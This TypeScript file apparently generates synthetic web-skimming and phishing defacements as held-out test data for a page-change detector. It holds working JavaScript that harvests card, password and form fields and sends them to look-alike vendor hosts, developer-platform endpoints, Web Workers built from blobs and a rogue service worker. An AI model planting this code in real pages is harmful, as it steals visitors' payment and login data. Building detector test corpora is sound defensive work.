/**
 * Fresh22 defacement classes: written during round 18, by someone who does
 * not read the engines, from public descriptions of real web skimming,
 * supply-chain compromises, phishing, malvertising, cryptojacking, SEO spam
 * and payment-diversion fraud. The group is about where a page sends its
 * visitors and their data, and the identifiers an honest page never
 * changes: skimmers riding third-party services not imitated before (a
 * web-push SDK, a cloud video player, a consent banner, a currency
 * converter, a fraud-screening tag, a font loader, a pay-later badge),
 * skimmers in new channels (a Web Worker built from a blob, serverless and
 * request-bin endpoints on developer platforms, a service worker planted
 * on the site itself), a reading-aid script carrying a miner, credential
 * harvesting in new dress (an e-mail-provider picker after the newsletter,
 * a passkey "downgrade" to password and SMS code, a look-alike meeting
 * invitation), fake support and booking services (a look-alike hosted help
 * desk, a look-alike scheduler asking a deposit), donation, direct-debit
 * and invoice fraud, identifiers changed so they still look the same
 * (address poisoning) or only on phones, impostor social accounts announced
 * or declared in metadata, a look-alike of the regulator's register,
 * search-engine alternates of the page sent elsewhere, a forced-redirect ad
 * frame, and SEO spam on parasite pages of reputable hosts, in a fake
 * list of sources and in a feed widget. Each differs from every class in
 * defacements.ts and fresh-defacements.ts through fresh20-defacements.ts
 * (not a re-wording of one) and varies its templates, languages, domains,
 * positions and sizes. The writer had no internet access: every source
 * below is recalled from memory, with its outlet and an approximate date
 * where known, and its comment says so. Scored in the `fresh22` group,
 * never tuned on.
 */
import { type ChangeClass, afterPrice, bottom, brandName, forms, head, lineAfter, occurrences, replaceEverywhere, setAttr, shown, top } from "./classes.js"
import { type Page, priceRe } from "./corpus.js"
import { type Change, type Splice, anySlot, esc, insert, replace, slotAt, splices } from "./edit.js"
import { type Lang, iban, groupIban, makePhone, someDate } from "./locales.js"
import type { Range } from "./locate.js"
import { type Rng, alnum, base58, bech32, between, chance, digits, hex, int, pick, sample, upper } from "./rng.js"
import { brandLookalike, libLookalike, randomDomain, slug } from "./words.js"

const fresh22 = (name: string, make: (page: Page, rng: Rng) => Change): ChangeClass => ({ name, kind: "defacement", group: "fresh22", make })

/** A JavaScript string literal that cannot close the script element it sits in. */
const js = (s: string) => JSON.stringify(s).replace(/</g, "\\u003c")
const wrapScript = (rng: Rng, code: string) =>
  `<script${chance(rng, 0.2) ? ` type="text/javascript"` : ""}>${pick(rng, [() => code, () => `(function(){${code}})();`, () => `document.addEventListener("DOMContentLoaded",function(){${code}});`])()}</script>`
const tld = (rng: Rng) => pick(rng, ["com", "net", "top", "xyz", "site", "online", "shop", "info", "click", "icu", "live", "pro", "org", "cc", "store", "io", "app", "biz", "eu", "link", "cfd", "sbs"])
const headStart = (page: Page) => page.spots.elements.find((e) => e.name === "head" && !e.inBody)?.openEnd ?? head(page)
const scriptSpot = (rng: Rng, page: Page) => pick(rng, [head(page), headStart(page), top(page), bottom(page), slotAt(page.spots, "middle")])
const noticeSpot = (rng: Rng, page: Page) => pick(rng, [top(page), slotAt(page.spots, "top"), anySlot(rng, page.spots)])
const spamSpot = (rng: Rng, page: Page) => pick(rng, [slotAt(page.spots, "middle"), slotAt(page.spots, "bottom"), anySlot(rng, page.spots), bottom(page)])
const font = (rng: Rng) => pick(rng, ["Arial,sans-serif", "system-ui,-apple-system,'Segoe UI',Roboto,sans-serif", "Helvetica,Arial,sans-serif", "Verdana,sans-serif", "Georgia,serif"])
const zTop = (rng: Rng) => pick(rng, ["2147483647", "999999", "100000", "99999", "10000"])
const accent = (rng: Rng) => pick(rng, ["#1a73e8", "#0a7c59", "#5b2a86", "#c62828", "#222", "#e65100", "#00695c"])
const bare = (page: Page) => page.site.brand.replace(/[^a-z0-9]/gi, "").toLowerCase() || "site"
const uuid = (rng: Rng) => `${hex(rng, 8)}-${hex(rng, 4)}-4${hex(rng, 3)}-${pick(rng, ["8", "9", "a", "b"])}${hex(rng, 3)}-${hex(rng, 12)}`
type Table<A> = Partial<Record<Lang, A>> & { readonly en: A }
/** The site's language most of the time when there is a text for it, else English. */
const some = <A>(rng: Rng, page: Page, table: Table<A>): A => (chance(rng, 0.7) ? table[page.site.locale.lang] ?? table.en : table.en)
/** A vendor's look-alike host: the vendor's name with a service word, typo or prefix on a cheap TLD, or a library look-alike. */
const vendorHost = (rng: Rng, vendor: string) =>
  pick(rng, [
    () => `${vendor}-${pick(rng, ["cdn", "js", "static", "api", "sdk", "widget", "cloud", "app"])}.${tld(rng)}`,
    () => `${pick(rng, ["cdn", "js", "static", "api", "sdk", "app"])}-${vendor}.${tld(rng)}`,
    () => `${vendor}${pick(rng, ["cdn", "js", "s", "app", "hq"])}.${tld(rng)}`,
    () => `${vendor}.${pick(rng, ["cdn-", "static-", "js-"])}${alnum(rng, 4)}.${tld(rng)}`,
    () => libLookalike(rng)
  ])()
/** A host an attacker runs for a theme: a look-alike of the site, a themed name or a random one. */
const themed = (rng: Rng, page: Page, words: ReadonlyArray<string>) =>
  pick(rng, [() => `${pick(rng, words)}-${pick(rng, ["online", "secure", "portal", "24", "official", "center", "now"])}.${tld(rng)}`, () => `${bare(page)}-${pick(rng, words)}.${tld(rng)}`, () => randomDomain(rng), () => brandLookalike(rng, page.site.brand)])()
const inText = (page: Page, r: Range) => page.spots.texts.some((t) => t.start <= r.start && r.end <= t.end)

/** Code that gathers the page's filled fields into `d` (a few ways skimmers do it). */
const gather = (rng: Rng) =>
  pick(rng, [
    `function g(){var d={};document.querySelectorAll("input,select,textarea").forEach(function(e){var k=e.name||e.id;if(k&&e.value&&e.type!=="hidden")d[k]=e.value});return d}`,
    `function g(){var d={};[].slice.call(document.forms).forEach(function(f){[].slice.call(f.elements).forEach(function(e){if(e.name&&e.value)d[f.id+"."+e.name]=e.value})});return d}`,
    `function g(){var d={},q="input[type=email],input[type=password],input[type=tel],input[autocomplete^=cc],input[name*=card],input[name*=cvv],input[name*=cvc],input[name*=exp],input[name*=iban],input[name*=user],input[name*=mail]";document.querySelectorAll(q).forEach(function(e){if(e.value)d[e.name||e.id||e.type]=e.value});return d}`
  ])
/** Code that sends the string `p` to `url`. */
const send = (rng: Rng, url: string) =>
  pick(rng, [
    `navigator.sendBeacon(${js(url)},p)`,
    `fetch(${js(url)},{method:"POST",body:p,keepalive:true,mode:"no-cors"})`,
    `new Image().src=${js(url)}+(${js(url)}.indexOf("?")<0?"?":"&")+"d="+encodeURIComponent(btoa(unescape(encodeURIComponent(p))))`,
    `var x=new XMLHttpRequest();x.open("POST",${js(url)});x.setRequestHeader("Content-Type","text/plain");x.send(btoa(unescape(encodeURIComponent(p))))`
  ])
/** A whole skimmer: gather on submit, change or leaving, send to `url`. */
const skim = (rng: Rng, url: string, tag = "") =>
  `${gather(rng)}function s(){var p=JSON.stringify({${tag === "" ? "" : `t:${js(tag)},`}h:location.host,u:location.pathname,d:g()});try{${send(rng, url)}}catch(e){}}${pick(rng, [
    `document.addEventListener("submit",s,true);`,
    `document.addEventListener("change",s,true);`,
    `document.addEventListener("submit",s,true);window.addEventListener("pagehide",s);`,
    `document.addEventListener("click",function(e){var b=e.target&&e.target.closest&&e.target.closest("button,[type=submit]");if(b)s()},true);`
  ])}`

// ———————————————————————————— skimmers riding third-party services ————————————————————————————

const pushWords: Table<(b: string) => readonly [string, string, string]> = {
  en: (b) => [`${b} would like to send you notifications`, "Allow", "Later"],
  fr: (b) => [`${b} souhaite vous envoyer des notifications`, "Autoriser", "Plus tard"],
  de: (b) => [`${b} möchte Ihnen Benachrichtigungen senden`, "Zulassen", "Später"],
  es: (b) => [`${b} quiere enviarte notificaciones`, "Permitir", "Más tarde"],
  nl: (b) => [`${b} wil je meldingen sturen`, "Toestaan", "Later"],
  pt: (b) => [`${b} gostaria de enviar notificações`, "Permitir", "Mais tarde"],
  it: (b) => [`${b} vorrebbe inviarti notifiche`, "Consenti", "Più tardi"]
}

// Web-push vendors as a way in, recalled from memory of RiskIQ's and Yonathan Klijnsma's write-ups (about September 2018) that the script of Feedify, a web-push notification service loaded by a few hundred sites, was altered several times to carry a Magecart skimmer, and, with uncertain sources, of later skimmers named after push SDKs: a push-notification SDK tag from a look-alike vendor host, its "subscribe" soft prompt in the site's name, and inline "SDK configuration" that copies the page's fields to the vendor host.
const pushSdkSkimmer = fresh22("skimmer dressed as a web-push notification SDK (Feedify, OneSignal, PushEngage, Webpushr look-alike host) with a soft 'allow notifications' prompt", (page, rng) => {
  const [vendor, file, global] = pick(rng, [["feedify", "feedify/js/feedify.min.js", "feedify"], ["onesignal", "sdks/web/v16/OneSignalSDK.page.js", "OneSignalDeferred"], ["pushengage", "sdks/pushengage-web-sdk.js", "PushEngage"], ["webpushr", "app.min.js", "webpushr"], ["izooto", `scripts/${hex(rng, 40)}.js`, "izooto"], ["pushowl", "sdks/pushowl-sdk.js", "pushowl"]] as const)
  const h = vendorHost(rng, vendor)
  const app = pick(rng, [uuid(rng), hex(rng, 32), digits(rng, 5)])
  const sink = `https://${h}/${pick(rng, ["api/v1/subscribers", "v2/sync", "push/register", "collect"])}`
  const tags = `<script src="https://${h}/${file}" ${pick(rng, ["async", "defer", ""])}></script>${wrapScript(rng, `window.${global}=window.${global}||[];window.${global}.push(["init",{appId:${js(app)}}]);${skim(rng, sink, app.slice(0, 8))}`)}`
  const out: Array<Splice> = [insert(scriptSpot(rng, page), tags)]
  if (chance(rng, 0.75)) {
    const [q, yes, no] = some(rng, page, pushWords)(brandName(page))
    out.push(insert(pick(rng, [top(page), bottom(page)]), `<div class="${pick(rng, ["push-prompt", "onesignal-slidedown", "fdy-prompt", "pe-optin"])}" style="position:fixed;top:${between(rng, 0, 12)}px;left:50%;transform:translateX(-50%);z-index:${zTop(rng)};background:#fff;box-shadow:0 4px 18px rgba(0,0,0,.25);border-radius:6px;padding:14px 18px;font:14px ${font(rng)};color:#222;max-width:420px">🔔 ${esc(q)}<div style="text-align:right;margin-top:10px"><button type="button" style="background:none;border:0;color:#555;padding:6px 12px">${esc(no)}</button> <button type="button" style="background:${accent(rng)};color:#fff;border:0;border-radius:4px;padding:6px 14px">${esc(yes)}</button></div></div>`))
  }
  return { splices: out }
})

const videoWords: Table<readonly [string, string]> = {
  en: ["Watch the video tour", "Virtual viewing"], fr: ["Regardez la visite vidéo", "Visite virtuelle"], de: ["Video-Rundgang ansehen", "Virtuelle Besichtigung"],
  es: ["Mira el recorrido en vídeo", "Visita virtual"], nl: ["Bekijk de videorondleiding", "Virtuele bezichtiging"], pt: ["Veja o tour em vídeo", "Visita virtual"], it: ["Guarda il video tour", "Visita virtuale"]
}

// Cloud video players as a way in, recalled from memory of Palo Alto Networks Unit 42's report (about January 2022) that a skimmer was planted in a cloud video platform's player and so reached more than a hundred real-estate sites that embedded it, and of the embed markup such platforms publish (Brightcove's players.brightcove.net/account/player_default/index.min.js with a video-js element, JW Player's cdn.jwplayer.com/libraries/ID.js, Wistia's fast.wistia.com/assets/external/E-v1.js): a video player embed with its library from a look-alike platform host, whose player configuration carries a skimmer.
const videoPlayerSkimmer = fresh22("skimmer carried by a cloud video-player embed (Brightcove, JW Player, Wistia, Vimeo look-alike library host)", (page, rng) => {
  const acct = digits(rng, 13)
  const vid = pick(rng, [digits(rng, 13), alnum(rng, 8)])
  const [vendor, lib, markup] = pick(rng, [
    ["brightcove", `${acct}/${alnum(rng, 9)}_default/index.min.js`, `<video-js data-account="${acct}" data-player="default" data-embed="default" data-video-id="${vid}" controls class="vjs-fluid"></video-js>`],
    ["jwplayer", `libraries/${alnum(rng, 8)}.js`, `<div id="jw-${alnum(rng, 6)}" class="jwplayer" data-media="${vid}"></div>`],
    ["wistia", "assets/external/E-v1.js", `<div class="wistia_embed wistia_async_${alnum(rng, 10)} videoFoam=true" style="height:${between(rng, 200, 360)}px;width:100%"></div>`],
    ["vimeo", "api/player.js", `<div data-vimeo-id="${digits(rng, 9)}" data-vimeo-responsive="1" class="vimeo-player"></div>`]
  ] as const)
  const h = pick(rng, [`players-${vendor}.${tld(rng)}`, `${vendor}-players.${tld(rng)}`, `cdn-${vendor}.${tld(rng)}`, vendorHost(rng, vendor)])
  const sink = `https://${h}/${pick(rng, ["analytics/v2/events", "stats", "tracker", "metrics/collect"])}`
  const [head1, cap] = some(rng, page, videoWords)
  const block = `<section class="${pick(rng, ["video-tour", "media-embed", "property-video"])}"><h3>${esc(head1)}</h3>${markup}<p class="caption">${esc(cap)} · ${esc(brandName(page))}</p></section>`
  const code = `<script src="https://${h}/${lib}"></script>${wrapScript(rng, skim(rng, sink, vendor))}`
  const inline = chance(rng, 0.6)
  return splices(insert(pick(rng, [slotAt(page.spots, "middle"), slotAt(page.spots, "top"), anySlot(rng, page.spots)]), block + (inline ? code : "")), ...(inline ? [] : [insert(scriptSpot(rng, page), code)]))
})

const consentWords: Table<readonly [string, string, string]> = {
  en: ["We use cookies to improve your experience and for analytics.", "Accept all", "Necessary only"],
  fr: ["Nous utilisons des cookies pour améliorer votre expérience et mesurer l'audience.", "Tout accepter", "Nécessaires uniquement"],
  de: ["Wir verwenden Cookies, um Ihr Erlebnis zu verbessern und für Statistiken.", "Alle akzeptieren", "Nur notwendige"],
  es: ["Usamos cookies para mejorar tu experiencia y para analítica.", "Aceptar todo", "Solo necesarias"],
  nl: ["We gebruiken cookies om je ervaring te verbeteren en voor statistieken.", "Alles accepteren", "Alleen noodzakelijke"],
  pt: ["Usamos cookies para melhorar sua experiência e para estatísticas.", "Aceitar todos", "Apenas necessários"],
  it: ["Utilizziamo i cookie per migliorare la tua esperienza e per statistiche.", "Accetta tutti", "Solo necessari"]
}

// Consent banners as a disguise, recalled from memory, with uncertain sources, of skimmer reports by Sansec and Malwarebytes (about 2020–2023) naming skimmer files and hosts after cookie-consent tools, and of the tags those tools publish (Cookiebot's consent.cookiebot.com/uc.js with a data-cbid, OneTrust's cdn.cookielaw.org/scripttemplates/otSDKStub.js with a data-domain-script, Usercentrics' app.usercentrics.eu/browser-ui/latest/loader.js): a consent-manager tag and banner from a look-alike host, whose "consent log" sends what visitors type.
const consentSkimmer = fresh22("skimmer dressed as a consent-management banner (Cookiebot, OneTrust, Usercentrics, Complianz look-alike host) whose 'consent log' sends what visitors type", (page, rng) => {
  const [vendor, file, attr] = pick(rng, [["cookiebot", "uc.js", `data-cbid="${uuid(rng)}"`], ["cookielaw", "scripttemplates/otSDKStub.js", `data-domain-script="${uuid(rng)}"`], ["usercentrics", "browser-ui/latest/loader.js", `data-settings-id="${alnum(rng, 10)}"`], ["complianz", "cmplz-cookiebanner.min.js", `data-id="${digits(rng, 4)}"`], ["iubenda", "cs/iubenda_cs.js", `data-site="${digits(rng, 7)}"`]] as const)
  const h = vendorHost(rng, vendor)
  const sink = `https://${h}/${pick(rng, ["consent/log", "api/consents", "v1/record", "cl.gif"])}`
  const out: Array<Splice> = [insert(pick(rng, [headStart(page), head(page)]), `<script src="https://${h}/${file}" ${attr} type="text/javascript"></script>${wrapScript(rng, skim(rng, sink, "consent"))}`)]
  const [t, yes, no] = some(rng, page, consentWords)
  out.push(insert(pick(rng, [bottom(page), top(page)]), `<div id="${pick(rng, ["CybotCookiebotDialog", "onetrust-banner-sdk", "uc-banner", "cmplz-cookiebanner"])}" role="dialog" style="position:fixed;left:0;right:0;bottom:0;z-index:${zTop(rng)};background:#fff;border-top:1px solid #ccc;padding:14px 20px;font:14px ${font(rng)};color:#222;box-shadow:0 -2px 10px rgba(0,0,0,.12)">🍪 ${esc(t)} <button type="button" style="margin-left:12px;background:${accent(rng)};color:#fff;border:0;padding:7px 14px;border-radius:4px">${esc(yes)}</button> <button type="button" style="background:#eee;border:0;padding:7px 14px;border-radius:4px">${esc(no)}</button></div>`))
  return { splices: out }
})

const converterWords: Table<string> = { en: "Show prices in", fr: "Afficher les prix en", de: "Preise anzeigen in", es: "Mostrar precios en", nl: "Prijzen tonen in", pt: "Mostrar preços em", it: "Mostra i prezzi in" }

// Shop plug-ins as a disguise, recalled from memory, with uncertain sources, of Magecart reports (RiskIQ, Sansec, Malwarebytes, about 2019–2022) on skimmers hidden in or named after e-commerce add-ons that load on every shop page (currency switchers, shipping-rate and tax calculators), and of the currency-selector widgets shops add for foreign visitors: a "show prices in" currency switcher with its script from a look-alike add-on host whose exchange-rate call carries the visitors' checkout fields.
const converterSkimmer = fresh22("skimmer dressed as a shop's currency-converter or shipping-estimate widget, its 'rates' request carrying checkout fields", (page, rng) => {
  const vendor = pick(rng, ["currencyconverter", "multicurrency", "shiprate", "autoconvert", "geocurrency", "taxcalc"])
  const h = vendorHost(rng, vendor)
  const rates = `https://${h}/${pick(rng, ["api/rates", "v1/latest", "rates.json", "quote"])}`
  const code = `${gather(rng)}function r(){var p=JSON.stringify(g());fetch(${js(rates)}+"?base=EUR&ref="+encodeURIComponent(btoa(unescape(encodeURIComponent(p)))),{mode:"no-cors"})}document.addEventListener("${pick(rng, ["submit", "change", "focusout"])}",r,true);`
  const currencies = sample(rng, ["EUR", "USD", "GBP", "CHF", "AUD", "CAD", "SEK", "BRL", "INR"], between(rng, 3, 6))
  const widget = `<div class="${pick(rng, ["currency-switcher", "cc-widget", "mc-selector"])}" style="font:13px ${font(rng)};margin:8px 0">${esc(some(rng, page, converterWords))} <select onchange="window.__cc&amp;&amp;__cc(this.value)">${currencies.map((c) => `<option>${c}</option>`).join("")}</select></div>`
  return splices(insert(scriptSpot(rng, page), `<script src="https://${h}/${pick(rng, ["widget.js", "converter.min.js", "loader.js"])}" async></script>${wrapScript(rng, code)}`), insert(pick(rng, [top(page), slotAt(page.spots, "top"), anySlot(rng, page.spots)]), widget))
})

// Fraud-screening tags as a disguise, recalled from memory, with uncertain sources, of skimmer reports (Sansec, Jscrambler, about 2020–2024) whose files posed as security or anti-fraud scripts, and of the real device-fingerprinting tags shops add at checkout (Signifyd's cdn-scripts.signifyd.com/api/script-tag.js, Riskified's beacon.riskified.com, Sift's cdn.sift.com/s.js, Kount's data collector): a fraud-screening tag from a look-alike host whose "risk assessment" sends the card fields.
const fraudTagSkimmer = fresh22("skimmer dressed as a checkout fraud-screening tag (Signifyd, Riskified, Sift, Kount look-alike host) sending card fields as a 'risk assessment'", (page, rng) => {
  const [vendor, file, cfg] = pick(rng, [["signifyd", "api/script-tag.js", `data-order-session-id="${uuid(rng)}" id="sig-api"`], ["riskified", `?shop=${page.site.host}&sid=${uuid(rng)}`, ""], ["sift", "s.js", ""], ["kount", `collect/sdk?m=${digits(rng, 6)}`, ""], ["forter", `${hex(rng, 12)}/script.js`, ""]] as const)
  const h = pick(rng, [`beacon-${vendor}.${tld(rng)}`, `cdn-scripts-${vendor}.${tld(rng)}`, vendorHost(rng, vendor)])
  const sink = `https://${h}/${pick(rng, ["risk/assess", "v3/score", "fp/collect", "decision"])}`
  return splices(insert(scriptSpot(rng, page), `<script type="text/javascript" src="https://${h}/${file}" ${cfg} async></script>${wrapScript(rng, skim(rng, sink, "risk"))}`))
})

const bnplWords: Table<(n: string, amt: string) => readonly [string, string, string, string, string, string]> = {
  en: (n, a) => [`or ${n} interest-free payments of ${a}`, "Check your eligibility in seconds", "Card number", "MM/YY", "Date of birth", "Continue"],
  fr: (n, a) => [`ou ${n} paiements sans frais de ${a}`, "Vérifiez votre éligibilité en quelques secondes", "Numéro de carte", "MM/AA", "Date de naissance", "Continuer"],
  de: (n, a) => [`oder ${n} zinsfreie Raten à ${a}`, "Prüfen Sie in Sekunden, ob Sie berechtigt sind", "Kartennummer", "MM/JJ", "Geburtsdatum", "Weiter"],
  es: (n, a) => [`o ${n} pagos sin intereses de ${a}`, "Comprueba tu elegibilidad en segundos", "Número de tarjeta", "MM/AA", "Fecha de nacimiento", "Continuar"],
  nl: (n, a) => [`of ${n} renteloze betalingen van ${a}`, "Controleer in enkele seconden of je in aanmerking komt", "Kaartnummer", "MM/JJ", "Geboortedatum", "Doorgaan"],
  pt: (n, a) => [`ou ${n} pagamentos sem juros de ${a}`, "Verifique sua elegibilidade em segundos", "Número do cartão", "MM/AA", "Data de nascimento", "Continuar"],
  it: (n, a) => [`oppure ${n} rate senza interessi da ${a}`, "Verifica la tua idoneità in pochi secondi", "Numero della carta", "MM/AA", "Data di nascita", "Continua"]
}

// Pay-later badges as a lure, recalled from memory of the on-site messaging that Klarna, Afterpay/Clearpay, Scalapay and Alma publish for shops (a "4 interest-free payments of …" line under the price with an info link), and, with uncertain sources, of phishing and skimming pages imitating those providers' eligibility checks (about 2021–2024): a pay-later line beside the page's prices from a look-alike provider host, whose "check your eligibility" box asks for the card and date of birth and posts to that host.
const bnplLookalike = fresh22("pay-later instalment line beside the prices from a look-alike provider host (Klarna, Afterpay, Clearpay, Scalapay, Alma), its eligibility box asking for the card and date of birth", (page, rng) => {
  const vendor = pick(rng, ["klarna", "afterpay", "clearpay", "scalapay", "alma", "zip"])
  const h = pick(rng, [`${vendor}-${pick(rng, ["checkout", "pay", "eligibility", "osm"])}.${tld(rng)}`, vendorHost(rng, vendor)])
  const n = pick(rng, ["3", "4"])
  const amt = page.site.locale.money(between(rng, 5, 80) + pick(rng, [0, 0.25, 0.5, 0.99]))
  const [line, check, card, exp, dob, go] = some(rng, page, bnplWords)(n, amt)
  const id = `bnpl${alnum(rng, 5)}`
  const field = (name: string, ph: string, ac: string) => `<input name="${name}" placeholder="${esc(ph)}" autocomplete="${ac}" style="display:block;width:100%;box-sizing:border-box;margin:5px 0;padding:7px;border:1px solid #ccc;border-radius:4px">`
  const box = `<div id="${id}" role="dialog" style="display:${pick(rng, ["none", "none", "block"])};position:fixed;top:50%;left:50%;transform:translate(-50%,-50%);z-index:${zTop(rng)};box-shadow:0 10px 40px rgba(0,0,0,.3);padding:12px;border:1px solid #ddd;border-radius:8px;max-width:320px;font:13px ${font(rng)};background:#fff"><b>${esc(vendor.charAt(0).toUpperCase() + vendor.slice(1))}</b> — ${esc(check)}<form action="https://${h}/${pick(rng, ["eligibility", "v1/prequal", "checkout/start"])}" method="post">${field("pan", card, "cc-number")}${field("exp", exp, "cc-exp")}${field("cvc", "CVC", "cc-csc")}${field("dob", dob, "bday")}<button type="submit" style="background:#111;color:#fff;border:0;padding:8px 16px;border-radius:16px">${esc(go)}</button></form></div>`
  const badge = `<span class="${pick(rng, ["osm-badge", "bnpl-msg", "instalments"])}" style="display:inline-block;font:12px ${font(rng)};color:#333;margin-left:6px"><a href="#${id}" onclick="document.getElementById('${id}').style.display='block';return false" style="color:inherit">${esc(line)} ⓘ</a></span>`
  const prices = page.spots.texts.filter((t) => priceRe.test(t.text) && page.spots.elements[t.parent]?.shown !== false)
  const uniq = [...new Set(sample(rng, prices, between(rng, 1, 3)).map((t) => afterPrice(page, t)))]
  const scriptTag = chance(rng, 0.5) ? `<script src="https://${h}/${pick(rng, ["lib/v1/api.js", "osm/placement.js", "widget/messaging.js"])}" async></script>` : ""
  const boxAt = insert(bottom(page), box + scriptTag)
  if (uniq.length === 0) return splices(insert(anySlot(rng, page.spots), `<p>${badge}</p>`), boxAt)
  return splices(...uniq.map((at) => insert(at, badge)), boxAt)
})

// Font loaders as a disguise, recalled from memory, with uncertain sources, of skimmer domains imitating Google Fonts and Typekit (Magecart write-ups by RiskIQ and Sansec, about 2018–2021, listing hosts such as font-googleapis look-alikes), and of the loaders sites really use (Google's WebFont Loader with a WebFontConfig object, Adobe Fonts' use.typekit.net/kit.js with Typekit.load()): a web-font loader snippet from a look-alike font host whose "active" callback installs a skimmer.
const fontLoaderSkimmer = fresh22("skimmer dressed as a web-font loader (WebFont Loader, Typekit kit, Google Fonts look-alike host) installing itself in the fonts' 'active' callback", (page, rng) => {
  const h = pick(rng, [`fonts-${pick(rng, ["googleapis", "gstatic", "typekit"])}.${tld(rng)}`, `${pick(rng, ["googlefonts", "webfontloader", "typekitcdn", "fontsapi"])}.${tld(rng)}`, libLookalike(rng)])
  const fam = pick(rng, ["Open Sans:400,700", "Roboto:300,400,700", "Lato:400,700", "Montserrat:400,600", "Source Sans Pro:400,700"])
  const sink = `https://${h}/${pick(rng, ["css2", "s/usage", "kit/metrics", "l"])}`
  const code = pick(rng, [
    () => `window.WebFontConfig={google:{families:[${js(fam)}]},active:function(){${skim(rng, sink, "wf")}}};(function(d){var w=d.createElement("script");w.src="https://${h}/ajax/libs/webfont/1.6.26/webfont.js";w.async=true;d.head.appendChild(w)})(document);`,
    () => `try{Typekit.load({async:true,active:function(){${skim(rng, sink, "tk")}}})}catch(e){}`
  ])()
  const pre = code.startsWith("try") ? `<script src="https://${h}/${alnum(rng, 7)}.js"></script>` : ""
  const link = chance(rng, 0.5) ? `<link rel="stylesheet" href="https://${h}/css?family=${encodeURIComponent(fam).replace(/%20/g, "+")}">` : ""
  return splices(insert(pick(rng, [head(page), headStart(page)]), `${link}${pre}${wrapScript(rng, code)}`))
})

// ———————————————————————————— new channels for stolen data ————————————————————————————

// Workers as a hiding place, recalled from memory, with uncertain sources, of skimmer and loader analyses (Jscrambler, Akamai and Sansec blog posts, about 2021–2024) describing code moved into Web Workers or built at run time from Blob URLs so that the page's own scripts and simple inspection never show the network call, and of MDN's Worker and URL.createObjectURL pages: the page thread passes each field's value by postMessage to a worker built from a blob (or a data: URL), and the worker sends the collected values to another host.
const workerSkimmer = fresh22("skimmer whose sending is done by a Web Worker built from a blob: or data: URL, the page passing it each field's value by postMessage", (page, rng) => {
  const h = pick(rng, [randomDomain(rng), libLookalike(rng), brandLookalike(rng, page.site.brand)])
  const url = `https://${h}/${pick(rng, ["w", "api/push", "q", "sync", "log"])}`
  const inner = `var b={};onmessage=function(e){b[e.data[0]]=e.data[1];clearTimeout(self.t);self.t=setTimeout(function(){fetch(${js(url)},{method:"POST",body:JSON.stringify(b),mode:"no-cors"})},${between(rng, 500, 4000)})};`
  const make = pick(rng, [
    `var w=new Worker(URL.createObjectURL(new Blob([${js(inner)}],{type:"text/javascript"})));`,
    `var w=new Worker(URL.createObjectURL(new Blob([atob(${js(Buffer.from(inner).toString("base64"))})])));`,
    `var w=new Worker("data:text/javascript;base64,"+${js(Buffer.from(inner).toString("base64"))});`
  ])
  const code = `${make}document.addEventListener("${pick(rng, ["input", "change", "focusout"])}",function(e){var t=e.target;if(t&&t.value&&(t.name||t.id))w.postMessage([t.name||t.id,t.value])},true);`
  return splices(insert(scriptSpot(rng, page), wrapScript(rng, code)))
})

// Developer platforms as drop points, recalled from memory, with uncertain sources, of skimming and phishing-kit reports (about 2021–2025) whose stolen data went to serverless functions and request-capture services on reputable platforms rather than to the criminals' own domains (Cloudflare Workers on workers.dev, Vercel and Netlify functions, Deno Deploy, Glitch, Pipedream and webhook.site endpoints, ngrok tunnels), which domain blocklists do not flag: a skimmer posting the page's fields to such an endpoint.
const serverlessDrop = fresh22("skimmer posting form fields to a serverless or request-capture endpoint on a developer platform (workers.dev, vercel.app, netlify.app, deno.dev, pipedream, webhook.site, ngrok)", (page, rng) => {
  const name = pick(rng, [alnum(rng, 8), `${pick(rng, ["api", "cdn", "analytics", "stats", "app"])}-${alnum(rng, 5)}`, `${bare(page)}-${pick(rng, ["api", "sync", "forms"])}`])
  const url = pick(rng, [
    () => `https://${name}.${alnum(rng, 6)}.workers.dev/${pick(rng, ["", "c", "api"])}`,
    () => `https://${name}.vercel.app/api/${pick(rng, ["collect", "log", "track"])}`,
    () => `https://${name}.netlify.app/.netlify/functions/${pick(rng, ["save", "hook", "data"])}`,
    () => `https://${name}.deno.dev/${pick(rng, ["", "x"])}`,
    () => `https://eo${alnum(rng, 14)}.m.pipedream.net`,
    () => `https://webhook.site/${uuid(rng)}`,
    () => `https://${alnum(rng, 4)}-${digits(rng, 2)}-${digits(rng, 3)}-${digits(rng, 2)}.ngrok-free.app/${pick(rng, ["log", "in"])}`,
    () => `https://${name}.glitch.me/${pick(rng, ["p", "save"])}`
  ])()
  return splices(insert(scriptSpot(rng, page), wrapScript(rng, skim(rng, url))))
})

// Service workers as persistence, recalled from memory, with uncertain sources, of research and incident notes on malicious service workers (about 2019–2024: injected registrations that keep intercepting a site's requests after the injected script is removed, used for push spam, redirects and to swap pages), and of the rule that a worker registered from a file at the site's root controls every page: a registration of a worker file planted at the site's root (named like a push or cache worker) whose fetch handler answers the checkout, sign-in or donation pages with another host's content.
const rogueServiceWorker = fresh22("service worker registered from a file planted at the site's root (named like a push or cache worker) that answers checkout, sign-in or donation pages from another host", (page, rng) => {
  const file = pick(rng, ["/sw.js", "/service-worker.js", "/firebase-messaging-sw.js", "/OneSignalSDKWorker.js", "/pwabuilder-sw.js", `/sw-${alnum(rng, 5)}.js`, "/wp-sw.js"])
  const h = themed(rng, page, ["checkout", "secure", "pay", "login", "donate"])
  const paths = sample(rng, ["checkout", "cart", "login", "account", "donate", "payment", "signin", "my-account"], between(rng, 2, 4))
  const code = `if("serviceWorker"in navigator){navigator.serviceWorker.register(${js(file)},{scope:"/"}).then(function(r){try{(r.active||r.installing||r.waiting).postMessage({o:${js(`https://${h}`)},p:${JSON.stringify(paths)}})}catch(e){}}).catch(function(){})}`
  const out: Array<Splice> = [insert(scriptSpot(rng, page), wrapScript(rng, code))]
  if (chance(rng, 0.3)) out.push(insert(head(page), `<link rel="manifest" href="/${pick(rng, ["manifest.json", "site.webmanifest"])}?v=${digits(rng, 3)}">`))
  return { splices: out }
})

const listenWords: Table<string> = { en: "Listen", fr: "Écouter", de: "Vorlesen", es: "Escuchar", nl: "Voorlezen", pt: "Ouvir", it: "Ascolta" }

// Reading aids as a carrier, recalled from memory of Scott Helme's discovery (February 2018) that Texthelp's Browsealoud script, loaded by the UK Information Commissioner's Office and thousands of other public sites, had been altered to run the Coinhive Monero miner in visitors' browsers, and of later browser miners (CoinImp, CryptoLoot, WebAssembly miners in workers, about 2018–2023) throttled or started only while the tab is hidden or the visitor idle: a reading-aid toolbar tag from a look-alike host and a miner started in workers when the page is hidden or untouched for a while.
